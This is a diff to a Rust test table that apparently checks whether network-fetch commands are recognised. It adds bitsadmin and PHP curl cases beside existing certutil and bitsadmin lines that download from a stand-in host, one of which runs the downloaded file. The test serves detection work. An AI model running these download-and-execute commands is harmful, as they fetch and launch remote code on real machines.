@@ -165,6 +165,11 @@ fn clients_of_other_languages_and_systems_are_read() {
         ),
         ("php -r \"echo file_get_contents('https://a.example/x');\"", get),
         ("$ch = curl_init('https://a.example/x'); curl_exec($ch);", get),
+        (
+            "bitsadmin /create j & bitsadmin /addfile j https://a.example/x y & bitsadmin /resume j",
+            bits,
+        ),
+        ("<?php\n$c = curl_init('https://a.example/x');\ncurl_exec($c);\n?>", get),
         ("certutil.exe -urlcache -split -f https://a.example/x C:\\y", twice),
         ("cmd /c certutil -urlcache -f https://a.example/x y && y", twice),
         ("bitsadmin /transfer j https://a.example/x C:\\y", bits),
